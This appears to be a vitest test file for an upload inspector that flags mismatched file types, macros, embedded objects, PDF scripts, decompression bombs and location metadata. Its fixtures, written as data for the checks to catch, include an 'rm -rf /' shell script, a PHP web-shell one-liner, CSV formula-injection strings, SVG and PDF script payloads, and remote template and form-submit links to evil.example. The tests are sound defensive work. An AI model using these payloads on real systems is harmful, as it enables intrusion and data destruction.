import { describe, expect, test } from 'vitest'
import { inspectFile } from '../../pipeline/media/inspect-file.ts'
import { docx, film, gif, hugePng, odt, pdf, photo, stream, xlsx, zip } from '../support/made-files.ts'

type Made = Uint8Array | Promise<Uint8Array>

const codes = async (file: string, bytes: Uint8Array): Promise<string[]> => {
  const part = (at: number, length: number) => bytes.subarray(at, at + length)
  return (await inspectFile({ file, size: bytes.length, part })).map(({ code }) => code)
}

const text = (content: string) => Buffer.from(content)
const MP3 = Buffer.concat([
  text('ID3\x03\0\0\0\0\0\0'),
  Buffer.from([0xff, 0xfb, 0x90, 0x64]),
  Buffer.alloc(500),
])
const MZ = Buffer.concat([text('MZ'), Buffer.alloc(200)])
const SVG = text(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
)

describe('a file is what its name says', () => {
  // biome-ignore format: a table
  const cases: readonly (readonly [file: string, because: string, bytes: Made, found: readonly string[]])[] = [
    ['anh.jpg',  'a photograph',                                       photo(),                            []],
    ['anh.jpeg', 'the other extension of the same',                    photo(),                            []],
    ['anh.png',  'a drawing',                                          photo({ format: 'png' }),           []],
    ['anh.webp', 'a photograph of the web',                            photo({ format: 'webp' }),          []],
    ['anh.gif',  'a still GIF',                                        gif(1),                             []],
    ['a.pdf',    'a paper',                                            pdf(),                              []],
    ['a.docx',   'a Word paper',                                       docx(),                             []],
    ['a.xlsx',   'a workbook',                                         xlsx(),                             []],
    ['a.odt',    'an OpenDocument text',                               odt(),                              []],
    ['a.csv',    'a table with a mark of UTF-8 and a negative number', text('\uFEFFMã,Số lượng\nA,-12\n'), []],
    ['a.vtt',    'subtitles',                                          text('WEBVTT\n\n00:00.000 --> 00:02.000\nChào\n'), []],
    ['a.mp3',    'a recording',                                        MP3,                                []],
    ['a.mp4',    'a film',                                             film(),                             []],
    ['anh.jpg',  'a PNG under the name of a JPEG',                     photo({ format: 'png' }),           ['mismatch']],
    ['anh.jpg',  'a Windows program',                                  MZ,                                 ['mismatch']],
    ['a.pdf',    'the same under another name',                        MZ,                                 ['mismatch']],
    ['a.pdf',    'a Word paper renamed',                               docx(),                             ['mismatch']],
    ['a.docx',   'a workbook renamed',                                 xlsx(),                             ['mismatch']],
    ['a.docx',   'a plain ZIP',                                        zip({ 'a.txt': 'x' }),              ['mismatch']],
    ['anh.jpg',  'an SVG runs scripts where it is opened by itself',   SVG,                                ['mismatch']],
    ['anh.png',  'an SVG without a declaration',                       text('<svg onload="alert(1)"/>'),   ['mismatch']],
    ['a.csv',    'a page in the place of a table',                     text('<!DOCTYPE html><script>1</script>'), ['mismatch']],
    ['a.csv',    'a script',                                           text('#!/bin/sh\nrm -rf /\n'),      ['mismatch']],
    ['a.csv',    'a program for a server',                             text('<?php system($_GET[0]);'),    ['mismatch']],
    ['anh.jpg',  'the same under the name of a picture',               text('<?php system($_GET[0]);'),    ['mismatch']],
    ['a.pdf',    'text under the name of a PDF',                       text('xin chào'),                   ['mismatch']],
    ['a.csv',    'the old code page of Windows',                       Buffer.from([0x54, 0xea, 0x6e, 0x2c, 0x31]), ['not-text']],
    ['a.csv',    'a zero is no text',                                  text('a\0b'),                       ['not-text']],
    ['a.csv',    'a spreadsheet would run it',                         text('Tên,Số\n=HYPERLINK("http://x"),1\n'), ['formula']],
    ['a.csv',    'the same with a sign before it',                     text("Tên,Số\nA,-2+3+cmd|' /C calc'!A0\n"), ['formula']],
    ['a.vtt',    'SubRip is not WebVTT',                               text('1\n00:00:00,000 --> 00:00:02,000\nChào'), ['not-captions']],
    ['a.mp4',    'H.265 is not played everywhere',                     film({ hevc: true }),               ['film-coding']],
    ['a.mp4',    'a film tells where it was taken',                    film({ position: true }),           ['film-position']],
    ['a.mp4',    'cut off before its table of contents',               film({ late: true }).subarray(0, 3000), ['container-broken']],
  ]
  test.each(cases)('%s: %s', async (file, _, bytes, found) => {
    expect(await codes(file, await bytes)).toEqual(found)
  })
  test('a file beyond all limits is not read at all', async () => {
    const part = () => {
      throw new Error('read')
    }
    expect(await inspectFile({ file: 'a.mp4', size: 200_000_000, part })).toEqual([{ code: 'too-large' }])
  })
  test('a heavy one is told, and looked into all the same', async () => {
    const heavy = Buffer.concat([await photo({ position: true }), Buffer.alloc(11_000_000)])
    expect(await codes('anh.jpg', heavy)).toEqual(['picture-position', 'heavy'])
  })
  test('of a film only its head and its table of contents are read, wherever that stands', async () => {
    const bytes = film({ late: true, position: true, length: 500_000 })
    let read = 0
    const part = (at: number, length: number) => {
      read += length
      return bytes.subarray(at, at + length)
    }
    const found = await inspectFile({ file: 'a.mp4', size: bytes.length, part })
    expect(found.map(({ code }) => code)).toEqual(['film-position'])
    expect(read).toBeLessThan(5000)
  })
})

describe('a picture', () => {
  // biome-ignore format: a table
  const cases: readonly (readonly [file: string, because: string, bytes: () => Promise<Uint8Array>, found: readonly string[]])[] = [
    ['anh.jpg',  'where somebody stood',                    () => photo({ position: true }),                              ['picture-position']],
    ['anh.jpg',  'the place is the graver of the two',      () => photo({ position: true, camera: true }),                ['picture-position']],
    ['anh.jpg',  'whose telephone it was',                  () => photo({ camera: true }),                                ['picture-camera']],
    ['anh.webp', 'WebP keeps notes too',                    () => photo({ position: true, format: 'webp' }),              ['picture-position']],
    ['anh.png',  'and so does PNG',                         () => photo({ position: true, format: 'png' }),               ['picture-position']],
    ['anh.jpg',  'how it is to be turned is no secret',     () => photo({ orientation: 6 }),                              []],
    ['anh.jpg',  'cut off while it was sent',               async () => (await photo()).subarray(0, 900),                 ['picture-broken']],
    ['anh.png',  'the end of a PNG is missing',             async () => (await photo({ format: 'png' })).subarray(0, -8), ['picture-broken']],
    ['anh.webp', 'shorter than it says',                    async () => (await photo({ format: 'webp' })).subarray(0, -20), ['picture-broken']],
    ['anh.gif',  'a GIF without its trailer',               async () => (await gif(1)).subarray(0, -1),                   ['picture-broken']],
    ['anh.png',  'a few bytes that become gigabytes',       async () => hugePng(50_000, 50_000),                          ['picture-too-large']],
    ['anh.png',  'just above the limit',                    async () => hugePng(8000, 8001),                              ['picture-too-large']],
    ['anh.png',  'just at the limit',                       async () => hugePng(8000, 8000),                              []],
    ['anh.gif',  'nobody can stop it',                      () => gif(3),                                                 ['animated']],
  ]
  test.each(cases)('%s: %s', async (file, _, bytes, found) => {
    expect(await codes(file, await bytes())).toEqual(found)
  })
})

const external = (type: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>`
const MACRO_TYPES =
  '<Types><Override ContentType="application/vnd.ms-word.template.macroEnabledTemplate+xml" PartName="/y"/><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml" PartName="/x"/></Types>'
const OLE =
  '<manifest:file-entry manifest:full-path="Object 1" manifest:media-type="application/vnd.sun.star.oleobject"/>'
const LOCKED = '<manifest:manifest><manifest:encryption-data/></manifest:manifest>'

describe('an Office paper', () => {
  // biome-ignore format: a table
  const cases: readonly (readonly [file: string, because: string, bytes: () => Made, found: readonly string[]])[] = [
    ['a.docx', 'macros',                                        () => docx({ 'word/vbaProject.bin': 'x' }),                             ['macro']],
    ['a.docx', 'Windows does not mind the case',                () => docx({ 'word/VBAPROJECT.BIN': 'x' }),                             ['macro']],
    ['a.docx', 'nor the slash',                                 () => docx({ 'word\\vbaProject.bin': 'x' }),                            ['macro']],
    ['a.docx', 'declared among its parts',                      () => docx({ '[Content_Types].xml': MACRO_TYPES }),                     ['macro']],
    ['a.docx', 'a control',                                     () => docx({ 'word/activeX/activeX1.bin': 'x' }),                       ['active-x']],
    ['a.docx', 'another program’s file in it',                  () => docx({ 'word/embeddings/oleObject1.bin': 'x' }),                  ['embedded-object']],
    ['a.docx', 'a program in it',                               () => docx({ 'word/embeddings/xau.exe': 'MZ' }),                        ['embedded-object']],
    ['a.docx', 'the whole table behind a chart',                () => docx({ 'word/embeddings/Book1.xlsx': 'x' }),                      ['embedded-workbook']],
    ['a.docx', 'macros in the table behind a chart',            () => docx({ 'word/embeddings/Book1.xlsx': xlsx({ 'xl/vbaProject.bin': 'x' }) }), ['embedded-workbook', 'macro']],
    ['a.docx', 'a template from elsewhere, with its macros',    () => docx({ 'word/_rels/settings.xml.rels': external('attachedTemplate') }), ['remote-template']],
    ['a.docx', 'a link that somebody presses is a link',        () => docx({ 'word/_rels/document.xml.rels': external('hyperlink') }),  []],
    ['a.docx', 'a paper that speaks of macros has none',        () => docx({ 'word/document.xml': '<w:t>vbaProject.bin</w:t>' }),       []],
    ['a.docx', 'a password',                                    () => docx({}, { encrypted: true }),                                    ['locked']],
    ['a.docx', 'unpacks to a gigabyte',                         () => docx({ 'word/document.xml': 'x' }, { claims: { 'word/document.xml': 900_000_000 } }), ['bomb']],
    ['a.docx', 'holds more than it claims',                     () => docx({ '_rels/.rels': 'x'.repeat(5000) }, { claims: { '_rels/.rels': 10 } }), ['container-broken']],
    ['a.docx', 'a photograph in it keeps its place',            async () => docx({ 'word/media/image1.jpeg': await photo({ position: true }) }), ['photo-position']],
    ['a.docx', 'a photograph without one',                      async () => docx({ 'word/media/image1.jpeg': await photo() }),          []],
    ['a.xlsx', 'macros of the old kind',                        () => xlsx({ 'xl/macrosheets/sheet1.xml': 'x' }),                       ['macro']],
    ['a.odt',  'macros of LibreOffice',                         () => odt({ 'Basic/Standard/Module1.xml': 'x' }),                       ['macro']],
    ['a.odt',  'a program in Python',                           () => odt({ 'Scripts/python/a.py': 'x' }),                              ['macro']],
    ['a.odt',  'calls one when it is opened',                   () => odt({ 'content.xml': '<script:event-listener script:event-name="dom:load"/>' }), ['macro']],
    ['a.odt',  'another program’s file in it',                  () => odt({ 'META-INF/manifest.xml': OLE }),                            ['embedded-object']],
    ['a.odt',  'a password',                                    () => odt({ 'META-INF/manifest.xml': LOCKED }),                         ['locked']],
  ]
  test.each(cases)('%s: %s', async (file, _, bytes, found) => {
    expect(await codes(file, await bytes())).toEqual(found)
  })
  test('one that Word has locked is told from an old .doc', async () => {
    const cfb = Buffer.alloc(4096)
    cfb.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
    expect(await codes('a.docx', cfb)).toEqual(['mismatch'])
    cfb.write('EncryptedPackage', 1024, 'utf16le')
    expect(await codes('a.docx', cfb)).toEqual(['locked'])
  })
})

describe('a PDF', () => {
  const objects = (content: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') =>
    stream(content, dictionary)
  const JPEG = '/Subtype /Image /Filter /DCTDecode'
  // biome-ignore format: a table
  const cases: readonly (readonly [because: string, bytes: () => Made, found: readonly string[]])[] = [
    ['a script',                                        () => pdf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),       ['pdf-script']],
    ['the same, spelt to hide it',                      () => pdf('<< /S /J#61vaScript /J#53 6 0 R >>'),                ['pdf-script']],
    ['in a packed stream of objects',                   () => pdf(objects('7 0 << /S /JavaScript /JS (x) >>')),         ['pdf-script']],
    ['the same with the name of the stream hidden too', () => pdf(objects('7 0 << /JS (x) >>', '/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode')), ['pdf-script']],
    ['opens a program',                                 () => pdf(objects('7 0 << /S /Launch /F (cmd.exe) >>')),        ['pdf-launch']],
    ['a form that is a program',                        () => pdf('<< /AcroForm << /XFA 9 0 R >> >>'),                  ['pdf-script']],
    ['sends what people write elsewhere',               () => pdf('<< /S /SubmitForm /F (http://evil.example) >>'),     ['pdf-launch']],
    ['carries a file',                                  () => pdf('<< /Names << /EmbeddedFiles 9 0 R >> >>', stream('MZ', '/Type /EmbeddedFile')), ['pdf-embedded']],
    ['an address that speaks of scripts is an address', () => pdf('<< /A << /S /URI /URI (https://a.vn/JS/JavaScript) >> >>'), []],
    ['so is a title',                                   () => pdf('<< /Title (a \\( /JavaScript b) >>'),                []],
    ['what is drawn on a page is not read',             () => pdf(stream('q /JS gs /Launch Do Q')),                     []],
    ['a bracket before it hides nothing',               () => pdf('( ', '<< /S /JavaScript /JS (x) >>', ') '),          ['pdf-script']],
    ['nor does a false stream',                         () => pdf('% a\nstream\n', '<< /S /JavaScript /JS (x) >>', 'endstream'), ['pdf-script']],
    ['packed in a way that is not unpacked here',       () => pdf(objects('xx', '/Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]')), ['pdf-unseen']],
    ['a password',                                      () => pdf('<< /Encrypt 9 0 R >>'),                              ['locked']],
    ['cut off',                                         () => pdf().subarray(0, 300),                                   ['container-broken']],
    ['a photographed paper',                            () => Buffer.from(pdf().toString('latin1').replaceAll('/Font', '/Fxxx'), 'latin1'), ['pdf-scan']],
    ['a photograph in it keeps its place',              async () => pdf(stream(await photo({ position: true }), JPEG)), ['photo-position']],
    ['a photograph without one',                        async () => pdf(stream(await photo(), JPEG)),                   []],
    ['made to be read for ever',                        () => pdf('('.repeat(300_000), 'stream\n'.repeat(100_000), '1 '.repeat(300_000)), []],
  ]
  test.each(cases)('%s', async (_, bytes, found) => {
    expect(await codes('a.pdf', await bytes())).toEqual(found)
  })
})
